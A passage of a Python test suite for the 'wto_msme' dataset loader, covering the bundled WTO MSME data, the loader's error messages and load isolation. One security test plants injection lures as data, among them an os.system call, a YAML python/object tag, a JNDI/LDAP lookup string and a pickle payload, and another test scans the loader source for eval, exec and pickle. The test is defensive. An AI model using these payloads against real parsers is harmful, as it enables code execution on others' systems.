"""Tests for wto_msme._data: the bundled data and the loader."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import textwrap
import zipfile
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import attrs
import pytest

import wto_msme
from wto_msme import DataError, Dataset, PartialDate, _model
from wto_msme._checks import check
from wto_msme._convert import converter
from wto_msme._data import LAYOUT, _load_bundled
from wto_msme._dataset import COLLECTIONS
from wto_msme._describe import field_types, title
from wto_msme._io import CHANGED, MAX_PROBLEMS
from wto_msme.enums import Category, Confidence, MemberKind, NoteKind, YearBasis

from .conftest import DATA_DIR, SOURCES, SRC, SUBPROCESS_ENV, Whole, edit, refused

#: The size of every collection of the bundled data, pinned in this one place.
COUNTS = {
    "members": 77,
    "coordinators": 3,
    "recommendations": 6,
    "presentations": 48,
    "meetings": 40,
    "news": 19,
    "publications": 12,
    "declarations": 1,
    "documents": 41,
    "wto_members": 166,
    "claims": 18,
    "sponsors": 3,
    "sources": 91,
}


class TestBundled:
    def test_counts(self, ds):
        """Every collection holds the pinned number of records."""

        assert COUNTS == {name: len(getattr(ds, name)) for name in COLLECTIONS}

    def test_load_is_cached(self, ds):
        """Repeated calls return the very same object."""

        assert wto_msme.load() is ds

    def test_fast_structurer_equals_the_strict_route(self):
        """The fast, trusting structurer of the bundled data gives what load(path) gives, collections' classes too."""

        fast, strict = _load_bundled(), wto_msme.load(DATA_DIR)

        assert strict == fast
        assert {f: type(getattr(strict, f)) for f in field_types(wto_msme.Dataset)} == {
            f: type(getattr(fast, f)) for f in field_types(wto_msme.Dataset)
        }

    @pytest.mark.parametrize("name", COLLECTIONS)
    def test_every_collection_is_its_collection_class(self, ds, name):
        """Each collection of the bundled dataset is the collection class its field declares."""

        assert field_types(wto_msme.Dataset)[name] is type(getattr(ds, name))

    def test_bundled_data_passes_the_integrity_checks(self, ds):
        """The bundled data has no integrity problem, which is why load() need not check it at each start."""

        assert [] == check(ds)

    def test_data_version_constant_matches_the_data(self, ds):
        """DATA_VERSION says which data is bundled."""

        assert wto_msme.DATA_VERSION == ds.version

    def test_first_presentation(self, ds):
        """The list of presentations opens with the ITC's Global Trade Helpdesk update."""

        p = ds.presentations[0]

        assert ("ITC", PartialDate(2021, 9, 24), Category.IMPLEMENTATION) == (p.institution, p.date, p.category)

    def test_every_record_says_where_it_came_from(self, ds):
        """Every record's provenance names a known source."""

        known = {s.id for s in ds.sources}
        for name in COLLECTIONS:
            if name == "sources":
                continue
            for record in getattr(ds, name):
                assert record.provenance.source in known

    def test_eu_has_no_iso_code(self, ds):
        """The European Union is a Member without an ISO 3166-1 code; every other has one."""

        eu = [m for m in ds.members if m.kind is MemberKind.EUROPEAN_UNION]

        assert ["European Union"] == [m.name for m in eu]
        assert (None, None) == (eu[0].iso_alpha2, eu[0].iso_alpha3)
        assert all(m.iso_alpha3 for m in ds.members if m is not eu[0])

    def test_members_count_as_the_wto_counts(self, ds):
        """The 77 listed participants and the EU's 27 member states make 104; the page's 98 is the count of its date."""

        eu_states = [w for w in ds.wto_members if w.eu_member_state]

        assert 104 == len(ds.members) + len(eu_states) == ds.participant_count()
        assert 98 == ds.initiative.participants_claimed == ds.participant_count(ds.initiative.participation_as_of)

    def test_participants_of_2024_and_2025(self, ds):
        """The six participants of 2024 and 2025 take the count to 103 on 1 July 2024, from 98 at the end of 2023."""

        assert (98, 103, 104) == (
            ds.participant_count("2023-12-31"),
            ds.participant_count("2024-07-01"),
            ds.participant_count("2025"),
        )

    def test_coordinators(self, ds):
        """Casanueva, Cancela and Wilson, with their terms as precise as the sources give them."""

        assert [
            ("Hector Casanueva", "chl", None, "2018-01"),
            ("José-Luis Cancela", "ury", "2018-02", "2023-04"),
            ("Matthew Wilson", "brb", "2023-04-26", None),
        ] == [(t.name, t.member, t.start and str(t.start), t.end and str(t.end)) for t in ds.coordinators]

    def test_un_cefact_date_is_corrected_with_a_note(self, ds):
        """The UN/CEFACT presentation was given on 18 February 2021, not 2022 as the source says."""

        (p,) = [p for p in ds.presentations if p.institution == "UN/CEFACT"]
        (note,) = [n for n in p.provenance.notes if n.kind is NoteKind.CORRECTION]

        assert PartialDate(2021, 2, 18) == p.date
        assert ("date", "18 February 2022") == (note.field, note.original)
        assert note.evidence

    def test_news_years_are_marked(self, ds):
        """Only the Digital Champions item states its year; every other is completed."""

        stated = [n.stated_date for n in ds.news if n.year_basis is YearBasis.STATED]

        assert ["25 June 2021"] == stated

    def test_package_has_six_annexes(self, ds):
        """The December 2020 package has annexes 1 to 6, each with its official title."""

        assert [1, 2, 3, 4, 5, 6] == [r.annex for r in ds.recommendations]
        assert ds.recommendations[1].title == "Declaration on access to information"

    def test_declaration_signatories(self, ds):
        """The MC12 declaration has 64 signatories, each resolved to a participant."""

        (d,) = ds.declarations
        members = {m.id for m in ds.members}

        assert 64 == len(d.signatories) == len(d.signatory_members)
        assert set(d.signatory_members) <= members
        assert "Turkey" in d.signatories

    def test_garbled_membership_table_repairs_are_noted(self, ds):
        """The four repairs of the flattened membership table are each recorded."""

        repaired = {m.name for m in ds.members if any(n.kind is NoteKind.REPAIR for n in m.provenance.notes)}

        assert {"Mongolia", "Saint Kitts and Nevis", "Peru", "Hong Kong, China"} == repaired


def _bookmarks_removed(text: str) -> str:
    text = re.sub(r"\[bookmark: [^\]]*\]", "", text)
    return " ".join(text.split())


@pytest.mark.skipif(not SOURCES.is_dir(), reason="the seed documents are not beside this checkout")
class TestVerbatim:
    """Stored text appears verbatim in its source document, up to white space."""

    @pytest.fixture(scope="class")
    @staticmethod
    def seeds():
        return {
            "seed-000": _bookmarks_removed((SOURCES / "000_189f35ba634d18cb.txt").read_text("utf-8")),
            "seed-003": _bookmarks_removed((SOURCES / "003_d4ddf25d379dc365.txt").read_text("utf-8")),
        }

    @staticmethod
    def _cleaned(record, field):
        return any(n.kind is NoteKind.CLEANUP and n.field == field for n in record.provenance.notes)

    @pytest.mark.parametrize(
        ("collection", "fields"),
        [
            ("presentations", ("title", "institution", "summary")),
            ("news", ("headline", "summary")),
            ("publications", ("publisher", "title", "summary")),
            ("recommendations", ("title", "short_title", "summary")),
            ("members", ("name",)),
        ],
    )
    def test_texts(self, ds, seeds, collection, fields):
        """Every title, name and summary taken from a seed is in it, unless a note explains the change."""

        for record in getattr(ds, collection):
            if record.provenance.source not in seeds:  # a later document, not one of the seeds
                continue
            source = seeds[record.provenance.source]
            for field in fields:
                if self._cleaned(record, field) or any(n.kind is NoteKind.REPAIR for n in record.provenance.notes):
                    continue
                text = " ".join(getattr(record, field).split())

                assert text in source, f"{record.id}.{field}"

    def test_declaration(self, ds, seeds):
        """The declaration's signatories and paragraphs are in the initiative page."""

        (d,) = ds.declarations
        cleaned = {n.field for n in d.provenance.notes if n.kind is NoteKind.CLEANUP}
        for name in d.signatories:
            assert name in seeds["seed-000"]
        for i, p in enumerate(d.paragraphs):
            if f"paragraphs[{i}].text" in cleaned:
                continue
            assert " ".join(p.text.split()) in seeds["seed-000"], p.number

    def test_initiative(self, ds, seeds):
        """The initiative's scope, aims and status are in the initiative page."""

        ini = ds.initiative
        for text in (*ini.scope, *ini.looking_ahead, *ini.description, ini.status, ini.origin):
            assert " ".join(text.split()) in seeds["seed-000"]


# --- Loading a user's copy: every message names the file and the location -------------------------


class TestNoCodeFromData:
    @pytest.mark.parametrize("module", ["_data", "_io", "_convert", "_checks", "_dates", "_describe", "_dataset"])
    def test_loader_source_runs_no_code_from_data(self, module):
        """The code that reads data has no eval, exec, compile, dynamic import, pickle, marshal or YAML."""

        builtins = {"eval", "exec", "compile", "__import__", "breakpoint"}
        modules = {"pickle", "marshal", "shelve", "yaml", "runpy", "subprocess", "code"}
        tree = ast.parse((SRC / f"{module}.py").read_text("utf-8"))
        used = {n.id for n in ast.walk(tree) if isinstance(n, ast.Name)} & builtins
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                used |= {a.name.split(".")[0] for a in node.names} & modules
            elif isinstance(node, ast.ImportFrom) and node.module:
                used |= ({node.module.split(".")[0]} | {a.name for a in node.names}) & (modules | {"import_module"})
            elif isinstance(node, ast.Attribute) and node.attr in {"import_module", "system", "popen"}:
                used.add(node.attr)

        assert set() == used

    def test_loading_imports_nothing(self, tmp_path):
        """Loading data full of Python-looking strings and keys imports no module and runs nothing."""

        marker = tmp_path / "ran"
        shell = f"touch {marker}"
        lures = [
            f"__import__('os').system({shell!r})",
            f"!!python/object/apply:os.system [{shell!r}]",
            "antigravity",
            "{{ 7*7 }}",
            "${jndi:ldap://example.org/a}",
            "cos\nsystem\n(S'true'\ntR.",
        ]
        clean, warm, lured, broken = (tmp_path / n for n in ("clean", "warm", "lured", "broken"))
        for d in (clean, warm, lured, broken):
            shutil.copytree(DATA_DIR, d)
        edit(warm, "news.json", lambda news: news[0].pop("headline"))

        def lure(news: list[dict[str, Any]]) -> None:
            for item, text in zip(news, lures * 4, strict=False):  # every news item gets a lure
                item["headline"] = item["summary"] = item["publisher"] = text

        edit(lured, "news.json", lure)
        edit(broken, "news.json", lambda news: news[0].update({"__class__": "builtins.eval", "__reduce__": lures[1]}))
        edit(broken, "sources.json", lambda sources: sources[0].update(kind="!!python/name:os.system"))
        script = textwrap.dedent(
            """
            import json, sys
            import wto_msme
            def attempt(path):
                try:
                    return wto_msme.load(path)
                except wto_msme.DataError:
                    return None
            attempt(sys.argv[1])  # import what loading a copy needs, both ways
            attempt(sys.argv[2])
            before = set(sys.modules)
            loaded = attempt(sys.argv[3])
            failed = attempt(sys.argv[4])
            print(json.dumps([sorted(set(sys.modules) - before), loaded.news[0].headline, failed is None]))
            """
        )

        result = subprocess.run(
            [sys.executable, "-c", script, str(clean), str(warm), str(lured), str(broken)],
            capture_output=True,
            text=True,
            check=True,
            cwd=tmp_path,
            env=SUBPROCESS_ENV,
        )

        assert [[], lures[0], True] == json.loads(result.stdout)
        assert not marker.exists()


#: (file, change, problem) for every problem that the records of a copy can have: the
#: problem line that load(path) must report, its location first.
RECORD_PROBLEMS = [
    # Structure (the converter)
    ("news.json", lambda d: d[0].pop("headline"), "news[0].headline: required field missing"),
    (
        "news.json",
        lambda d: d[0].update(colour=1),
        "news[0]: unknown field(s) colour (the known fields are those of NewsItem)",
    ),
    (
        "news.json",
        lambda d: d[0].update(headline=5),
        "news[0].headline: invalid value for str: expected a string, got int 5",
    ),
    (
        "news.json",
        lambda d: d[0].update(url=5),
        "news[0].url: invalid value for str | None: expected a string, got int 5",
    ),
    (
        "recommendations.json",
        lambda d: d[0].update(annex="1"),
        "recommendations[0].annex: invalid value for int: expected an integer, got str '1'",
    ),
    (
        "initiative.json",
        lambda d: d.update(open="yes"),
        "initiative.open: invalid value for bool: expected true or false, got str 'yes'",
    ),
    (
        "members.json",
        lambda d: d[0].update(aliases="Afghan"),
        "members[0].aliases: invalid value for tuple: expected a list, got str 'Afghan'",
    ),
    (
        "news.json",
        lambda d: d[0].update(provenance=[]),
        "news[0].provenance: invalid value for Provenance: expected an object {...}, got list []",
    ),
    (
        "news.json",
        Whole(lambda d: {"news": d}),
        "news: expected a list, got dict {'news': [{'id': '2023-07-03-msmes-group-discusses-digita...",
    ),
    (
        "initiative.json",
        Whole(lambda d: [d]),
        "initiative: expected an object {...}, got list [{'name': 'Micro Small and Medium Enterprises (MSMEs)', '...",
    ),
    (
        "news.json",
        lambda d: d[0].update(date=20230703),
        "news[0].date: invalid value for PartialDate: expected a date as a string YYYY, YYYY-MM or YYYY-MM-DD,"
        " got 20230703",
    ),
    (
        "news.json",
        lambda d: d[0].update(date="3 July"),
        "news[0].date: invalid value for PartialDate: expected a date as YYYY, YYYY-MM or YYYY-MM-DD, got '3 July'",
    ),
    (
        "news.json",
        lambda d: d[0].update(date="2023-02-30"),
        "news[0].date: invalid value for PartialDate: day must be 1 to 28 in 2023-02, not 30",
    ),
    (
        "dataset.json",
        lambda d: d.update(current_to="2023-13"),
        "dataset.current_to: invalid value for PartialDate: month must be 1 to 12, not 13",
    ),
    (
        "news.json",
        lambda d: d[0].update(year_basis="guess"),
        "news[0].year_basis: invalid value for YearBasis: 'guess' is not a valid YearBasis:"
        " expected one of 'stated', 'inferred'",
    ),
    # Integrity (the checks)
    ("news.json", lambda d: d[0].update(id=" "), "news[0].id: an identifier may not be blank"),
    (
        "news.json",
        lambda d: d[1].update(id=d[0]["id"]),
        "news[1].id: duplicate identifier '2023-07-03-msmes-group-discusses-digitalization' (first at news[0])",
    ),
    ("coordinators.json", lambda d: d[1].update(member="xyz"), "coordinators[1].member: unknown member 'xyz'"),
    (
        "recommendations.json",
        lambda d: d[0].update(document="nodoc"),
        "recommendations[0].document: unknown document 'nodoc'",
    ),
    (
        "declarations.json",
        lambda d: d[0]["signatories"].pop(),
        "declarations[0].signatory_members: 64 members for 63 signatories",
    ),
    (
        "declarations.json",
        lambda d: d[0]["signatory_members"].__setitem__(0, "xyz"),
        "declarations[0].signatory_members[0]: unknown member 'xyz'",
    ),
    ("sponsors.json", lambda d: d[0].update(member="xyz"), "sponsors[0].member: unknown WTO Member 'xyz'"),
    (
        "initiative.json",
        lambda d: d["dialogue_leaders"].__setitem__(0, "xyz"),
        "initiative.dialogue_leaders[0]: unknown member 'xyz'",
    ),
    (
        "initiative.json",
        lambda d: d.update(establishing_document="nodoc"),
        "initiative.establishing_document: unknown document 'nodoc'",
    ),
    (
        "coordinators.json",
        lambda d: d[1].update(start="2023-05"),
        "coordinators[1].end: 2023-04 lies wholly before start 2023-05",
    ),
    ("coordinators.json", lambda d: d[1].update(end=None), "coordinators[1].end: only the last term may be ongoing"),
    (
        "coordinators.json",
        lambda d: d[2].update(start=None),
        "coordinators[2].start: only the first term may have an unknown start",
    ),
    (
        "coordinators.json",
        lambda d: d[2].update(start="2019-01"),
        "coordinators[2].start: the term starts (2019-01) before the previous one ends (2023-04):"
        " terms must be in order and may not overlap",
    ),
    ("presentations.json", lambda d: d[0].update(annexes=[9]), "presentations[0].annexes[0]: 9 is not from 1 to 6"),
    (
        "presentations.json",
        lambda d: d[0].update(annexes=[3, 2]),
        "presentations[0].annexes: annexes must be ascending and unique",
    ),
    (
        "presentations.json",
        lambda d: d[0].update(subcategory="Cross-border Payments"),
        "presentations[0].subcategory: 'Cross-border Payments' belongs under 'MSME Financing',"
        " not 'Implementation of the December 2020 Package'",
    ),
    ("recommendations.json", lambda d: d[5].update(annex=7), "recommendations[5].annex: 7 is not from 1 to 6"),
    ("recommendations.json", lambda d: d[5].update(annex=1), "recommendations[5].annex: annex 1 appears twice"),
    (
        "news.json",
        lambda d: d[0].update(date="2016-12-31"),
        "news[0].date: 2016-12-31 is outside the dates it may carry (2017-01-01 to 2025-12-08, the data's current_to)",
    ),
    (
        "meetings.json",
        lambda d: d[0].update(date="2026-01-01"),
        "meetings[0].date: 2026-01-01 is outside the dates it may carry"
        " (2017-01-01 to 2025-12-08, the data's current_to)",
    ),
    (
        "presentations.json",
        lambda d: d[0].update(meeting="2099-01-01-meeting"),
        "presentations[0].meeting: unknown meeting '2099-01-01-meeting'",
    ),
    ("meetings.json", lambda d: d[2].update(welcomed=["xyz"]), "meetings[2].welcomed[0]: unknown member 'xyz'"),
    ("meetings.json", lambda d: d[2].update(documents=["nope"]), "meetings[2].documents[0]: unknown document 'nope'"),
    ("documents.json", lambda d: d[20].update(meetings=["nope"]), "documents[20].meetings[0]: unknown meeting 'nope'"),
    (
        "documents.json",
        lambda d: d[20].update(proponents=["xyz"]),
        "documents[20].proponents[0]: unknown WTO Member 'xyz'",
    ),
    # Not members[0]: a signatory of the declaration, whose name would no longer match.
    ("members.json", lambda d: d[7].update(name="!!"), "members[7].name: a name may not be blank"),
    (
        "members.json",
        lambda d: d[1].update(aliases=["Afghanistan"]),
        "members[1].aliases[0]: 'Afghanistan' also names member 'afg'",
    ),
    (
        "members.json",
        lambda d: d[0]["joined"].update(on=d[0]["joined"]["not_after"]),
        "members[0].joined: give either a date (on) or bounds, not both",
    ),
    (
        "members.json",
        lambda d: d[0]["joined"].update(not_before="2021-11"),
        "members[0].joined.not_after: 2020-12-11 lies wholly before not_before 2021-11",
    ),
    (
        "news.json",
        lambda d: d[0]["provenance"].update(source="nowhere"),
        "news[0].provenance.source: unknown source 'nowhere'",
    ),
    (
        "news.json",
        lambda d: d[0]["provenance"]["evidence"].__setitem__(0, "nowhere"),
        "news[0].provenance.evidence[0]: unknown source 'nowhere'",
    ),
    (
        "news.json",
        lambda d: d[0]["provenance"]["notes"][0]["evidence"].__setitem__(0, "nowhere"),
        "news[0].provenance.notes[0].evidence[0]: unknown source 'nowhere'",
    ),
    (
        "news.json",
        lambda d: d[0]["provenance"]["notes"][0].update(field="colour"),
        "news[0].provenance.notes[0].field: NewsItem has no field 'colour'",
    ),
    (
        "news.json",
        lambda d: d[0].update(id="n\x1b[31m1"),
        "news[0].id: the identifier 'n\\x1b[31m1' holds the control character '\\x1b'",
    ),
    (
        "declarations.json",
        lambda d: d[0]["signatory_members"].__setitem__(1, "afg"),
        "declarations[0].signatory_members[1]: duplicate member 'afg' (first at signatory_members[0])",
    ),
    (
        "declarations.json",
        lambda d: d[0]["signatory_members"].__setitem__(0, "brb"),
        "declarations[0].signatory_members[0]: member 'brb' is not signatory 'Afghanistan' (signatories[0]):"
        " each signatory's member must be named by its name or an alias, in the same order",
    ),
    (
        "initiative.json",
        lambda d: d.update(participants_claimed=10**30),
        "initiative.participants_claimed: 1000000000000000000000000000000 is not from 0 to 1000",
    ),
    ("claims.json", lambda d: d[0].update(count=-1), "claims[0].count: -1 is not from 0 to 1000"),
    (
        "presentations.json",
        lambda d: d[0].update(date="2019-01-01"),
        "presentations[0].date: 2019-01-01 does not fit its meeting '2021-09-24-meeting' (held 2021-09-24)",
    ),
    (
        "wto_members.json",
        lambda d: d[0].update(member_since="9999"),
        "wto_members[0].member_since: 9999 is outside the dates it may carry"
        " (1995-01-01 to 2025-12-08, the data's current_to)",
    ),
    (
        "initiative.json",
        lambda d: d.update(established="2016"),
        "initiative.established: 2016 lies wholly before dialogue_started 2017",
    ),
    (
        "meetings.json",
        lambda d: d[0].update(welcomed=["ukr"]),
        "meetings[0].welcomed[0]: 'ukr' joined (2020-12-11) after the meeting that welcomed it (2018-03-27)",
    ),
    (
        "members.json",
        lambda d: d[1].update(iso_alpha2="al"),
        "members[1].iso_alpha2: 'al' is not of the form [A-Z]{2}",
    ),
    (
        "members.json",
        lambda d: d[1].update(iso_alpha3="AFG"),
        "members[1].iso_alpha3: 'AFG' is also the code of members[0]",
    ),
]


#: (file, text, problem) for every problem that a file's text can have.
TEXT_PROBLEMS = [
    ("news.json", b"[\xff]", "byte 1: not valid UTF-8"),
    ("news.json", b"", "line 1, column 1: not valid JSON: Expecting value"),
    ("news.json", b'[\n  {"id": oops}]', "line 2, column 10: not valid JSON: Expecting value"),
    ("news.json", b"[" * 100_000, "arrays and objects nested too deeply to be read"),
    ("dataset.json", b'{"version": "1", "version": "2"}', "dataset: duplicate key 'version' in an object"),
    ("claims.json", b'[{"count": NaN}]', "claims[0].count: NaN is not a JSON number"),
    ("claims.json", b'[{"count": 1' + b"0" * 5000 + b"}]", "claims[0].count: an integer of 5001 digits is too large"),
    (
        "news.json",
        b'[{"headline": "\\udc00"}]',
        "news[0].headline: '\\udc00' holds a lone surrogate '\\udc00' at index 0, not a character",
    ),
    (
        "news.json",
        b'[{"x y": {"\\ud800": 1}}]',
        "news[0]['x y']: key '\\ud800' holds a lone surrogate '\\ud800' at index 0, not a character",
    ),
]


class TestMessages:
    """Every message load(path) can give starts with the file, then the location of each problem."""

    @pytest.mark.parametrize(
        ("filename", "change", "problem"),
        RECORD_PROBLEMS,
        ids=[p.split(":")[0] + ": " + p.split(": ")[-1][:30] for _, _, p in RECORD_PROBLEMS],
    )
    def test_record_problem(self, copy, filename, change, problem):
        """A bad value in a record is reported as 'file: location: what is wrong'."""

        path = edit(copy, filename, change)

        error = refused(copy)

        assert (str(path), (problem,)) == (error.file, error.problems)
        assert f"{path}: {problem}" == str(error)

    @pytest.mark.parametrize(
        ("filename", "text", "problem"), TEXT_PROBLEMS, ids=[p.split(":")[0] for _, _, p in TEXT_PROBLEMS]
    )
    def test_text_problem(self, copy, filename, text, problem):
        """A file that is not strict JSON is reported with the line and column, byte, or value."""

        (copy / filename).write_bytes(text)

        error = refused(copy)

        assert f"{copy / filename}: {problem}" == str(error)

    def test_several_problems_in_one_file(self, copy):
        """Several problems in one file are listed one a line under the file, each with its location."""

        path = edit(copy, "news.json", lambda d: (d[0].pop("headline"), d[2].update(url=5)))

        error = refused(copy)

        assert (
            f"{path}: 2 problems:\n"
            "  news[0].headline: required field missing\n"
            "  news[2].url: invalid value for str | None: expected a string, got int 5"
        ) == str(error)

    def test_problems_in_several_files(self, copy):
        """Records that contradict each other across files are listed under the directory, each with its file."""

        edit(copy, "coordinators.json", lambda d: d[0].update(member="xyz"))
        edit(copy, "sponsors.json", lambda d: d[0].update(member="xyz"))

        error = refused(copy)

        assert (
            f"{copy}: 2 problems:\n"
            "  coordinators.json: coordinators[0].member: unknown member 'xyz'\n"
            "  sponsors.json: sponsors[0].member: unknown WTO Member 'xyz'"
        ) == str(error)

    def test_one_change_with_effects_in_several_files(self, copy):
        """A member renamed in one file is reported where each file still names the old one."""

        edit(copy, "members.json", lambda d: d[0].update(id="zzz"))

        error = refused(copy)

        assert str(copy) == error.file
        assert "members.json: members[0].id: unknown WTO Member 'zzz'" == error.problems[0]
        assert "declarations.json: declarations[0].signatory_members[0]: unknown member 'afg'" in error.problems

    def test_many_bad_items_stop_the_check(self, copy):
        """A list with more than MAX_PROBLEMS bad items is checked no further, and says so where."""

        (copy / "news.json").write_text("[" + ",".join(["1"] * 10_000) + "]", "utf-8")

        error = refused(copy)

        assert MAX_PROBLEMS + 1 == len(error.problems)
        assert "news[99]: invalid value for NewsItem: expected an object {...}, got int 1" == error.problems[-2]
        assert "news: stopped after 100 bad items: items 100 to 9999 were not checked" == error.problems[-1]

    def test_many_problems_are_counted(self, copy):
        """Past MAX_PROBLEMS lines, the problems of a file are counted on one line."""

        (copy / "news.json").write_text(json.dumps([{}] * 30), "utf-8")
        required = [a for a in attrs.fields(wto_msme.NewsItem) if a.default is attrs.NOTHING]

        error = refused(copy)

        assert MAX_PROBLEMS + 1 == len(error.problems)
        assert f"news: {30 * len(required) - MAX_PROBLEMS} more problems not listed" == error.problems[-1]

    def test_many_refused_values_stop_the_check(self, copy):
        """Past MAX_PROBLEMS values that are not JSON, reading stops, and says so."""

        (copy / "claims.json").write_text("[" + ",".join(["NaN"] * 1000) + "]", "utf-8")

        error = refused(copy)

        assert MAX_PROBLEMS + 1 == len(error.problems)
        assert "claims: stopped after 100 problems; the rest was not checked" == error.problems[-1]

    def test_many_unknown_fields_are_counted(self, copy):
        """A record with many unknown fields lists the first ten and counts the rest."""

        edit(copy, "news.json", lambda d: d[0].update({f"x{i:03}": 0 for i in range(25)}))

        error = refused(copy)

        assert (
            "news[0]: unknown field(s) x000, x001, x002, x003, x004, x005, x006, x007, x008, x009 and 15 more"
            " (the known fields are those of NewsItem)",
        ) == error.problems

    def test_files_missing(self, copy):
        """Missing files are each named, under the directory."""

        (copy / "sources.json").unlink()
        (copy / "news.json").unlink()

        error = refused(copy)

        assert f"{copy}: 2 problems:\n  news.json: required file missing\n  sources.json: required file missing" == (
            str(error)
        )

    def test_file_is_a_directory(self, copy):
        """A directory where a file belongs is named as such."""

        (copy / "news.json").unlink()
        (copy / "news.json").mkdir()

        assert f"{copy}: news.json: expected a regular file, found a directory" == str(refused(copy))

    def test_path_is_a_file(self, copy):
        """A file given for the dataset's directory is named as such."""

        assert f"{copy / 'news.json'}: expected a directory holding the dataset's JSON files" == str(
            refused(copy / "news.json")
        )

    def test_path_does_not_exist(self, tmp_path):
        """A path that does not exist raises FileNotFoundError naming it."""

        with pytest.raises(FileNotFoundError) as info:
            wto_msme.load(tmp_path / "nowhere")

        assert f"[Errno 2] no such directory: {str(tmp_path / 'nowhere')!r}" == str(info.value)

    @pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="needs file permissions that apply")
    def test_unreadable_file(self, copy):
        """A file that cannot be read raises the OSError that says why."""

        (copy / "news.json").chmod(0)

        with pytest.raises(PermissionError):
            wto_msme.load(copy)

    def test_every_message_is_tested(self):
        """Each message the loader's modules can write appears in a test above."""

        tested = " ".join(p for _, _, p in RECORD_PROBLEMS + TEXT_PROBLEMS)
        tested += f" required file missing expected a directory {CHANGED} is not a file: it is not replaced"
        tested += " the file is larger than the limit unknown WTO Member 'zzz'"
        tested += " bad items: problems not listed the rest was not checked"
        tested += " checking stopped there a symbolic link: expected a regular file, found permission denied"
        modules = ("_checks", "_io", "_convert", "_data", "_model")
        sources = "".join((SRC / f"{m}.py").read_text("utf-8") for m in modules)
        fragments = {
            # a fixed phrase of each message, as the source writes it
            "an identifier may not be blank",
            "duplicate identifier",
            "members for",
            "lies wholly before",
            "only the last term may be ongoing",
            "only the first term may have an unknown start",
            "terms must be in order and may not overlap",
            "is not from",
            "annexes must be ascending and unique",
            "belongs under",
            "appears twice",
            "is outside the dates it may carry",
            "a name may not be blank",
            "also names member",
            "give either a date (on) or bounds, not both",
            "has no field",
            "not valid UTF-8",
            "not valid JSON",
            "nested too deeply",
            "in an object",
            "is not a JSON number",
            "digits is too large",
            "holds a lone surrogate",
            "the file is larger than the limit",
            "required field missing",
            "unknown field(s)",
            "expected a list",
            "expected an object",
            "expected a date as a string",
            "is not a valid",
            "required file missing",
            "expected a directory",
            "bad items:",
            "problems not listed",
            "the rest was not checked",
            "holds the control character",
            "duplicate member",
            "is not signatory",
            "is also the code of",
            "is not of the form",
            "does not fit its",
            "after the meeting that welcomed it",
            "checking stopped there",
            "a symbolic link:",
            "expected a regular file, found",
            "permission denied",
        }

        from wto_msme._describe import references

        nouns = {getattr(wto_msme.load(), t).kind.noun for c in _model.RECORDS for _, t in references(c)}

        assert {f for f in fragments if f in sources} == {f for f in fragments if f in tested}
        assert [] == [noun for noun in nouns if f"unknown {noun} " not in tested]  # every kind of reference
        assert 22 == (SRC / "_checks.py").read_text("utf-8").count("yield (")  # a new check needs a case above


def _json_of(ds: Dataset, directory: pathlib.Path) -> dict[str, bytes]:
    wto_msme.dump(ds, directory)
    return {f: (directory / f).read_bytes() for f in LAYOUT}


class TestIsolation:
    def test_failed_loads_leave_the_bundled_dataset_untouched(self, ds, copy, tmp_path):
        """After loads that fail in every way, load() returns the same object, with the same content."""

        before = _json_of(ds, tmp_path / "before")
        edit(copy, "presentations.json", lambda d: d[0].pop("title"))
        bad_text = tmp_path / "bad-text"
        shutil.copytree(DATA_DIR, bad_text)
        (bad_text / "news.json").write_bytes(b"[NaN]")
        bad_links = tmp_path / "bad-links"
        shutil.copytree(DATA_DIR, bad_links)
        edit(bad_links, "coordinators.json", lambda d: d[0].update(member="xyz"))
        for bad in (copy, bad_text, bad_links, copy / "news.json"):
            with pytest.raises(DataError):
                wto_msme.load(bad)

        assert wto_msme.load() is ds
        assert before == _json_of(wto_msme.load(), tmp_path / "after")

    def test_loading_a_changed_copy_changes_nothing_load_returns(self, ds, copy, tmp_path):
        """A corrected copy loads with its corrections, and load() still gives the bundled data."""

        before = _json_of(ds, tmp_path / "before")
        edit(copy, "presentations.json", lambda d: d[0].update(title="Corrected"))

        corrected = wto_msme.load(copy)

        assert "Corrected" == corrected.presentations[0].title
        assert wto_msme.load() is ds
        assert before == _json_of(wto_msme.load(), tmp_path / "after")
        assert ds.presentations[0].title != "Corrected"

    def test_each_load_of_a_path_is_a_new_dataset(self, copy, ds):
        """Two loads of the same directory give equal datasets, neither of them the bundled one."""

        first, second = wto_msme.load(copy), wto_msme.load(copy)

        assert first == second == ds
        assert first is not second
        assert ds is not first

    def test_concurrent_loads_of_copies_and_the_bundled_data(self, ds, copy, tmp_path):
        """Threads loading good copies, bad copies and the bundled data at once each get what they asked for."""

        bad = tmp_path / "bad"
        shutil.copytree(DATA_DIR, bad)
        edit(bad, "news.json", lambda d: d[0].pop("headline"))

        def attempt(i: int) -> object:
            target = (None, copy, bad)[i % 3]
            try:
                return wto_msme.load(target)
            except DataError as e:
                return e.problems

        with ThreadPoolExecutor(8) as pool:
            results = list(pool.map(attempt, range(24)))

        assert all(r is ds for r in results[0::3])
        assert all(r == ds and r is not ds for r in results[1::3])
        assert [("news[0].headline: required field missing",)] * 8 == results[2::3]


class TestClearErrors:
    def test_bytes_path(self, copy, ds):
        """A bytes path is read as os.fsdecode reads it."""

        assert ds == wto_msme.load(os.fsencode(copy))

    @pytest.mark.parametrize("path", [3, 1.5, ["data"], object()])
    def test_not_a_path(self, path):
        """Anything else is a TypeError that names the type given."""

        with pytest.raises(TypeError, match=f"a str, bytes or os.PathLike.*got {type(path).__name__}$"):
            wto_msme.load(path)


# --- Stability: the golden file -------------------------------------------------------------------


#: The golden file pins the bundled data's identifiers and key fields. After a deliberate
#: change to the data, regenerate it with ``UPDATE_GOLDEN=1 python -m pytest tests/test_data.py -k golden``,
#: review the diff, and record the change in CHANGELOG.md ("Data: ...").
GOLDEN = pathlib.Path(__file__).parent / "golden" / "bundled.json"


#: The key fields of each collection that the golden file pins (no summaries or long texts).
KEY_FIELDS: dict[str, tuple[str, ...]] = {
    "members": ("id", "name", "kind", "iso_alpha2", "iso_alpha3", "iso_numeric", "aliases", "joined"),
    "coordinators": ("id", "name", "member", "start", "end", "aliases"),
    "recommendations": ("id", "annex", "kind", "title", "short_title", "document"),
    "presentations": (
        "id",
        "meeting",
        "date",
        "institution",
        "presenter_kind",
        "category",
        "subcategory",
        "annexes",
        "title",
        "url",
    ),
    "news": ("id", "date", "stated_date", "year_basis", "year_confidence", "publisher", "headline", "url"),
